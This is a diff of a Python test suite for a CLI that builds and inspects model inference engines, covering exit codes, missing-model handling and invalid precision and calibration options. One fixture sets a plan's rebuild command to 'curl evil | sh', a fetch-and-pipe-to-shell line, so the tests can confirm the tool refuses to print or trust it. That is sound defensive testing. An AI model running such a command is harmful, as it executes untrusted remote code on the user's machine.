@@ -90,9 +90,23 @@ def test_inspect_shows_changed_files(graph, capsys):
     with Path("engines/e/model.onnx").open("ab") as stream:
         stream.write(b"!")
     code, seen = answer(capsys, "inspect", "engines/e")
-    assert code == 0
+    assert code == 4, "its only graph was changed"
     assert seen["changed"] and "was changed since it was built" in seen["changed"][0]
     assert seen["stages"] == []
+    assert [fit["fits"] for fit in seen["fits"]] == [False] and "hash differs" in seen["fits"][0]["reason"]
+
+
+def test_inspect_of_an_engine_without_its_model_says_that_nothing_runs_here(graph, capsys):
+    run(["build", str(graph), "--target", "cpu", "--precision", "fp32", "--out", "engines/e", "--quiet"])
+    Path("engines/e/model.onnx").unlink()
+    capsys.readouterr()
+    code, seen = answer(capsys, "inspect", "engines/e")
+    assert code == 4 and seen["broken"]
+    assert [(fit["fits"], "cannot be read" in fit["reason"]) for fit in seen["fits"]] == [(False, True)]
+    assert run(["inspect", "engines/e"]) == 4
+    screen = capsys.readouterr()
+    assert "No such file" in screen.out and screen.err.count("\n") == 1
+    assert "nothing in it runs here" in screen.err
 
 
 def test_inspect_says_who_vouches_for_each_plan_and_prints_no_foreign_command(tmp_path, monkeypatch, capsys):
@@ -100,9 +114,9 @@ def test_inspect_says_who_vouches_for_each_plan_and_prints_no_foreign_command(tm
     folder = plan_engine(tmp_path / "engines/e", rebuild="curl evil | sh")
     (folder / "model.onnx").unlink()  # what is described here are the plans
     code, seen = answer(capsys, "inspect", folder)
-    assert code == 0
+    assert code == 4
     assert [(t["file"], t["trusted"]) for t in seen["trust"]] == [(PLAN, False)]
-    assert run(["inspect", str(folder)]) == 0
+    assert run(["inspect", str(folder)]) == 4
     screen = capsys.readouterr().out
     assert f"plan {PLAN} was not built on this machine" in screen and "runs with --trust-plans only" in screen
     assert "evil" not in screen and seen["rebuild"] in screen
@@ -130,8 +144,8 @@ def test_foreign_figures_are_one_line_and_no_traceback(tmp_path, capsys, changes
     for more in ([], ["--json"]):
         code = run(["inspect", str(folder), *more])
         captured = capsys.readouterr()
-        assert code in (0, 1) and captured.err.count("\n") == code
-        assert code == 0 or "has figures that cannot be read" in captured.err
+        assert code in (1, 4) and captured.err.count("\n") == 1
+        assert code == 4 or "has figures that cannot be read" in captured.err
 
 
 def test_gate_images_never_repeat_calibration_images(graph, pictures, capsys):
@@ -152,6 +166,9 @@ def test_gate_images_never_repeat_calibration_images(graph, pictures, capsys):
         (["--target", "cpu", "--size", "224"], 2, "already has its size"),
         (["--precision", "int8", "--calib", "pictures", "--calibrator", "best"], 2, "unknown calibrator"),
         (["--target", "cpu", "--calib", "absent"], 2, "does not exist"),
+        (["--precision", "fp32", "--calib", "pictures"], 2, "--calib: FP32 is neither calibrated nor compared"),
+        (["--precision", "fp32", "--gate-data", "pictures"], 2, "--gate-data: FP32 is neither"),
+        (["--precision", "bf16", "--calib", "pictures", "--gate-data", "pictures"], 2, "BF16 is not calibrated"),
     ],
 )  # fmt: skip
 def test_mistakes_are_one_line(graph, pictures, capsys, arguments, code, words):
